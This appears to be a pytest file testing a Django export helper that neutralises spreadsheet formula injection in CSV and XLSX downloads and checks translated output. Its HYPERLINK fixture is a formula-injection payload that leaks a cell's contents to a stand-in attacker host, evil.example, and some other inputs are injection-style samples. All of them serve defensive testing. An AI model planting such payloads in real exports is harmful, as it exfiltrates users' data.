"""The one export helper: CSV and XLSX that never turn a person's text into a formula."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest

from idm.exports import csv_cell, csv_response, xlsx_response

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
ROWS = [
    ["Name", "Answer", "Score"],
    ["Ana", HYPERLINK, -5],
    ["+41 22 717 91 11", "@SUM(A1:A2)", Decimal("2.5")],
    ["-2+3", "\tcmd", 3.25],
    ["\rline", "plain – «text»", 0],
]


def csv_table(response):
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body.removeprefix("\ufeff"))))


def xlsx_sheet(response):
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return workbook.active


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", HYPERLINK])
def test_csv_cell_formula_text_prefixed(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-5, -2.5, Decimal("-1.25"), 0, None, "", "a=b", "Ana"])
def test_csv_cell_numbers_and_plain_text_unchanged(value):
    assert csv_cell(value) is value


def test_csv_response_neutralises_formulas_numbers_stay(tmp_path):
    response = csv_response(iter(ROWS), filename="rows.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="rows.csv"'
    assert csv_table(response) == [
        ["Name", "Answer", "Score"],
        ["Ana", "'" + HYPERLINK, "-5"],
        ["'+41 22 717 91 11", "'@SUM(A1:A2)", "2.5"],
        ["'-2+3", "'\tcmd", "3.25"],
        ["'\rline", "plain – «text»", "0"],
    ]


def test_xlsx_response_text_is_string_never_formula():
    sheet = xlsx_sheet(xlsx_response(iter(ROWS), filename="rows.xlsx", sheet_title="Rows"))
    assert sheet.title == "Rows"
    cells = list(sheet.iter_rows(min_row=2))
    answer = cells[0][1]
    assert (answer.data_type, answer.value) == ("s", HYPERLINK)
    assert all(cell.data_type != "f" for row in cells for cell in row)
    # (XML reads a carriage return back as a line feed: the fourth row is left out here.)
    assert [row[0].value for row in cells[:3]] == ["Ana", "+41 22 717 91 11", "-2+3"]
    assert [(row[2].data_type, row[2].value) for row in cells] == [
        ("n", -5),
        ("n", 2.5),
        ("n", 3.25),
        ("n", 0),
    ]


def test_xlsx_response_control_characters_do_not_break_the_file():
    rows = [["Answer"], ["bell\x07 and vertical tab\x0b"]]
    sheet = xlsx_sheet(xlsx_response(rows, filename="rows.xlsx", sheet_title="Rows"))
    assert sheet["A2"].value == "bell\ufffd and vertical tab\ufffd"


def translated_rows():
    """Rows computed while they are read, as every export's are (headers, labels, names)."""
    from django.utils.translation import gettext

    from idm.countries import localized_country_name

    yield [gettext("Member state"), gettext("Yes")]
    yield [localized_country_name("Mexico"), gettext("No")]


@pytest.mark.parametrize(
    ("query", "page_language", "expected"),
    [
        ({"lang": "fr"}, "en", "fr"),
        ({"lang": "es"}, "fr", "es"),
        ({}, "es", "es"),
        ({"lang": "de"}, "fr", "fr"),
        ({"lang": "\x00"}, "en", "en"),
    ],
)
def test_export_language_lang_parameter_else_page_language(query, page_language, expected, rf):
    from django.utils import translation

    from idm.exports import export_language

    with translation.override(page_language):
        assert export_language(rf.get("/x.csv", query)) == expected


def test_csv_response_written_in_its_language_while_streaming():
    response = csv_response(translated_rows(), filename="x.csv", language="fr")
    assert response["Content-Language"] == "fr"
    assert csv_table(response) == [["État membre", "Oui"], ["Mexique", "Non"]]


def test_xlsx_response_written_in_its_language():
    from django.utils.translation import gettext_lazy

    response = xlsx_response(
        translated_rows(), filename="x.xlsx", sheet_title=gettext_lazy("Responses"), language="es"
    )
    sheet = xlsx_sheet(response)
    assert sheet.title == "Respuestas"
    assert [list(row) for row in sheet.iter_rows(values_only=True)] == [
        ["Estado Miembro", "Sí"],
        ["México", "No"],
    ]
